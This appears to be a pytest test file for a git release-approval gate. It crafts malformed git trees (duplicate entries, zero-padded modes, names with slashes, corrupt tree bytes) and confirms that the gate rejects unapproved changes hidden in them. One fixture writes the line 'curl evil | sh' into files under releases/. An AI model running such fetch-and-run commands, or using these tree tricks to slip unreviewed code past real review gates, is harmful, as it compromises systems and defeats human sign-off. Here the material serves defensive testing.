"""The binding reads trees as git checks them out: a tree git would not write (a name
twice, a zero-padded mode) can neither hide a change from the check nor crash it, and
only real records of real releases may change under `releases/` after sign-off."""

from __future__ import annotations

import subprocess
from pathlib import Path

from conftest import Repo, approve_all, identity, make_repo

TAG = "v1.0.0"


def _entries(r: Repo, tree: str) -> list[tuple[bytes, bytes, bytes]]:
    raw = subprocess.run(
        ["git", "cat-file", "tree", tree], cwd=r.path, capture_output=True, check=True
    ).stdout
    out, at = [], 0
    while at < len(raw):
        space, nul = raw.index(b" ", at), raw.index(b"\0", raw.index(b" ", at))
        out.append((raw[at:space], raw[space + 1 : nul], raw[nul + 1 : nul + 21]))
        at = nul + 21
    return out


def _tree(r: Repo, entries: list[tuple[bytes, bytes, bytes]]) -> str:
    return r.hash_object(
        b"".join(mode + b" " + name + b"\0" + sha for mode, name, sha in entries), "tree"
    )


def _commit_tree(r: Repo, tree: str, message: str, *, checkout: bool = True) -> str:
    """A commit of `tree` on main, checked out (as a clone of it would be)."""
    head = r.git("rev-parse", "HEAD")
    commit = r.git("commit-tree", tree, "-p", head, "-m", message, env=identity("dave"))
    r.git("update-ref", "refs/heads/main", commit)
    if checkout:
        r.git("reset", "-q", "--hard")
    return commit


def _blob(r: Repo, text: str) -> bytes:
    return bytes.fromhex(r.hash_object(text.encode()))


def _with(entries: list[tuple[bytes, bytes, bytes]], name: bytes, *new: tuple[bytes, bytes]):  # type: ignore[no-untyped-def]
    """`entries` with `name`'s entry replaced by (mode, id) pairs, in that order."""
    out = []
    for mode, n, sha in entries:
        out += [(m, name, s) for m, s in new] if n == name else [(mode, n, sha)]
    return out


def _tag_and_check(r: Repo) -> tuple[int, str]:
    r.git("tag", "-a", TAG, "-m", TAG, env=identity("dave"))
    res = r.gate("check", TAG)
    assert "Traceback" not in res.err and "internal error" not in res.err, res.err
    return res.code, res.out


def test_a_name_twice_in_a_tree_never_reads_as_the_candidate(tmp_path: Path) -> None:
    """Checkout keeps the later of two `app.py` entries: [evil, good] shows good, [good,
    evil] shows evil. As sets of entries they were equal, and an unapproved app.py passed."""
    r = make_repo(tmp_path)
    good, evil = _blob(r, "print('good')\n"), _blob(r, "print('evil')\n")
    mode = b"100644"
    root = _entries(r, "HEAD^{tree}")
    _commit_tree(r, _tree(r, _with(root, b"app.py", (mode, evil), (mode, good))), "candidate")
    assert (r.path / "app.py").read_text() == "print('good')\n"
    assert r.gate("request", TAG, "--title", "t").code == 0
    approve_all(r)
    now = _entries(r, "HEAD^{tree}")
    once = [
        e for i, e in enumerate(now) if e[1] != b"app.py" or i == 0 or now[i - 1][1] != b"app.py"
    ]
    _commit_tree(r, _tree(r, _with(once, b"app.py", (mode, good), (mode, evil))), "release")
    assert (r.path / "app.py").read_text() == "print('evil')\n"
    code, out = _tag_and_check(r)
    assert code == 1 and "stale: the revision differs from candidate" in out


def test_a_zero_padded_mode_is_the_mode_git_reads(tmp_path: Path) -> None:
    """`0100644` is a plain file and `040000` a folder to git's checkout. The first made
    the check exit 2 (which `delete-tag` skips); the second hid every path in the folder."""
    r = make_repo(tmp_path)
    r.write("lib/x.py", "x = 1\n")
    r.commit("lib")
    root = _entries(r, "HEAD^{tree}")
    lib = next(sha for mode, name, sha in root if name == b"lib")
    _commit_tree(r, _tree(r, _with(root, b"lib", (b"040000", lib))), "lib as 040000")
    assert r.gate("request", TAG, "--title", "t").code == 0
    approve_all(r)
    now = _entries(r, "HEAD^{tree}")
    lib_entries = _entries(r, "HEAD:lib")
    evil_lib = _tree(r, _with(lib_entries, b"x.py", (b"100644", _blob(r, "x = 666\n"))))
    released = _with(now, b"lib", (b"040000", bytes.fromhex(evil_lib)))
    released = _with(released, b"app.py", (b"0100644", _blob(r, "print('evil')\n")))
    _commit_tree(r, _tree(r, released), "release")
    assert (r.path / "lib" / "x.py").read_text() == "x = 666\n"
    code, out = _tag_and_check(r)
    assert code == 1 and "stale: the revision differs from candidate" in out
    assert "lib/x.py" in out and "app.py" in out


def test_only_records_of_a_release_may_change_under_releases(tmp_path: Path) -> None:
    """Record-shaped paths that are no release's records: a folder inside the release's own
    folder, a folder no release tag names, a submodule where an attachment would be."""
    r = make_repo(tmp_path)
    assert r.gate("request", TAG, "--title", "t").code == 0
    approve_all(r)
    base = r.git("rev-parse", "HEAD")
    for path in ("releases/v1.0.0/scripts/evidence/deploy.sh", "releases/lib/evidence/x.py"):
        r.write(path, "curl evil | sh\n")
        r.git("add", "-A")
        r.git("commit", "-q", "--no-verify", "-m", path, env=identity("dave"))
        res = r.gate("check", TAG)
        assert res.code == 1 and path in res.out, (path, res.out)
        r.git("reset", "-q", "--hard", base)
    r.git("update-index", "--add", "--cacheinfo", f"160000,{base},releases/zz/evidence/sub")
    r.git("commit", "-q", "--no-verify", "-m", "a submodule", env=identity("dave"))
    res = r.gate("check", TAG)
    assert res.code == 1 and "releases/zz/evidence/sub" in res.out


def test_a_name_with_a_slash_is_never_read_as_the_candidate(tmp_path: Path) -> None:
    """Checkout writes an entry named `lib/x.py` to lib/x.py, and the later of it and
    lib/'s own x.py wins: the same set of entries in another order checked out the
    unapproved one, and the check passed it."""
    r = make_repo(tmp_path)
    r.write("lib/x.py", "x = 'good'\n")
    r.commit("lib")
    root = _entries(r, "HEAD^{tree}")
    evil = (b"100644", b"lib/x.py", _blob(r, "x = 'evil'\n"))
    _commit_tree(r, _tree(r, [evil, *root]), "candidate")
    assert (r.path / "lib" / "x.py").read_text() == "x = 'good'\n"
    assert r.gate("request", TAG, "--title", "t").code == 0
    approve_all(r)
    now = [e for e in _entries(r, "HEAD^{tree}") if e[1] != b"lib/x.py"]
    _commit_tree(r, _tree(r, [*now, evil]), "release")
    assert (r.path / "lib" / "x.py").read_text() == "x = 'evil'\n"
    code, out = _tag_and_check(r)
    assert code == 1 and "(a tree git would not write)" in out


def test_a_tagged_tree_that_is_no_tree_fails_and_shields_no_other_tag(tmp_path: Path) -> None:
    """Bytes that are no tree entries (no NUL after a name) were an internal error in
    `--all-tags`, so the run stopped and an unapproved tag beside it was never deleted."""
    r = make_repo(tmp_path)
    r.write("lib/x.py", "x = 1\n")
    r.commit("lib")
    assert r.gate("request", TAG, "--title", "t").code == 0
    approve_all(r)
    lib = b"".join(m + b" " + n + b"\0" + s for m, n, s in _entries(r, "HEAD:lib"))
    broken = bytes.fromhex(r.hash_object(lib + b"100644 tail", "tree"))
    root = _with(_entries(r, "HEAD^{tree}"), b"lib", (b"40000", broken))
    _commit_tree(r, _tree(r, root), "release", checkout=False)  # git cannot check it out
    code, out = _tag_and_check(r)
    assert code == 1 and "(a tree git would not write)" in out
    r.git("tag", "-a", "v2.0.0", "-m", "no request at all", env=identity("dave"))
    res = r.gate("check", "--all-tags")
    assert res.code == 1 and "Traceback" not in res.err and "internal error" not in res.err
    assert "release v1.0.0: FAILED" in res.out and "release v2.0.0: FAILED" in res.out


def test_a_release_folder_git_would_not_write_fails_wherever_it_is_read(tmp_path: Path) -> None:
    """A mode Python reads but git does not (`1_00644`) in the tagged release folder, and
    an approval listed twice in that folder on the trusted ref: each made the tag-push
    check exit 2, which `delete-tag` does not act on."""
    r = make_repo(tmp_path)
    assert r.gate("request", TAG, "--title", "t").code == 0
    approve_all(r)
    folder = _entries(r, f"HEAD:releases/{TAG}")
    approvals = _entries(r, f"HEAD:releases/{TAG}/approvals")

    def _release_tree(inner: list[tuple[bytes, bytes, bytes]]) -> str:
        sub = _with(folder, b"approvals", (b"40000", bytes.fromhex(_tree(r, inner))))
        releases = [(b"40000", TAG.encode(), bytes.fromhex(_tree(r, sub)))]
        root = _with(
            _entries(r, "HEAD^{tree}"), b"releases", (b"40000", bytes.fromhex(_tree(r, releases)))
        )
        return _tree(r, root)

    odd = [(b"1_00644", n, s) for _, n, s in approvals]
    good = r.git("rev-parse", "HEAD")
    _commit_tree(r, _release_tree(odd), "odd mode", checkout=False)
    r.git("tag", "-a", TAG, "-m", TAG, env=identity("dave"))
    r.git("update-ref", "refs/heads/main", good)
    res = r.gate("check", "--tag", TAG, "--policy-ref", "main", "--at", "now")
    assert res.code == 1, res.err
    r.git("tag", "-d", TAG)
    r.git("tag", "-a", TAG, "-m", TAG, good, env=identity("dave"))
    _commit_tree(r, _release_tree([approvals[0], *approvals]), "twice on main", checkout=False)
    res = r.gate("check", "--tag", TAG, "--policy-ref", "main", "--at", "now")
    assert res.code == 1 and "cannot be read" in res.out, (res.code, res.err)
